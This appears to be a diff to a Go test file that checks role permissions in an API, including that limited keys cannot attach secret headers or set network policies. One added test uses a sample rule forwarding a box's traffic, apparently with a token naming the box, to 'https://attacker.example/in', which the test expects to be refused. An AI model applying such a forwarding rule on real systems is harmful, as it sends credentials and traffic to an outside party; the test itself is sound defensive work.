@@ -58,7 +58,7 @@ func TestEveryRouteHasItsRoles(t *testing.T) {
 var mayCall = map[api.Role]func(rt rest.Route) bool{
 	api.RoleAdmin: func(rest.Route) bool { return true },
 	api.RoleReader: func(rt rest.Route) bool {
-		return slices.Contains(strings.Fields(`getDescription listBoxes getBox getBoxStatus getLimits getPolicy getLeases getEnforcement getHeaders getGlobalHeaders listBoxDecisions
+		return slices.Contains(strings.Fields(`getDescription listBoxes getBox getBoxStatus getLimits getPolicy getNetwork getLeases getEnforcement getHeaders getGlobalHeaders listBoxDecisions
 			listObservations listPastObservations listDecisions listActivity searchBoxDecisions searchDecisions explainDecision replayPolicy learnPolicy listPolicyVersions getPolicyVersion listUrls listBoxSnapshots listSnapshots getEnvironment getStatus getBoxCa getCa listSecrets getModelUsage listNamedPolicies getNamedPolicy
 			listApprovals listBoxApprovals getApproval getAsking`), rt.ID)
 	},
@@ -246,6 +246,7 @@ func TestLimitedKeysReadNoSecrets(t *testing.T) {
 			{"POST", "/v2/box", `{"attach_headers":` + rules + `}`},
 			{"PUT", "/v2/box/theirs/config/attach-headers", rules},
 			{"PATCH", "/v2/box/theirs/config/attach-headers", rules},
+			{"PUT", "/v2/box/theirs/config/network", `{"network_policy":{"mode":"deny-all"},"attach_headers":` + rules + `}`},
 		} {
 			if got := f.Call(t, c.method, c.path, c.body, apitest.With(ci)); got.StatusCode != 422 && got.StatusCode != 403 {
 				t.Errorf("%s %s %s: %s %s", c.method, c.path, rules, got.Status, got.Text)
@@ -267,6 +268,13 @@ func TestLimitedKeysReadNoSecrets(t *testing.T) {
 			if got := f.Call(t, "POST", "/v2/box", `{"network_policy":`+policy+`}`, as...); got.StatusCode != 422 || !strings.Contains(got.Text, "X-Leak") {
 				t.Errorf("%s: %s %s", dialect, got.Status, got.Text)
 			}
+		}
+	}
+	forwards := `{"allow":{"attacker.example":[{"forwardURL":"https://attacker.example/in"}]}}` // with a token that names the box
+	for _, c := range []struct{ path, body string }{{"config/network-policy", forwards}, {"config/network-policy?dry_run=true", forwards}, {"config/network", `{"network_policy":` + forwards + `}`}} {
+		f.Expect(t, 200, "PUT", "/v2/box/theirs/"+c.path, c.body)
+		if got := f.Call(t, "PUT", "/v2/box/theirs/"+c.path, c.body, apitest.With(ci)); got.StatusCode != 403 || !strings.Contains(got.Text, "forward_url") {
+			t.Errorf("%s: %s %s", c.path, got.Status, got.Text)
 		}
 	}
 	ro := f.key(t, `{"name":"ro","role":"read-only"}`)
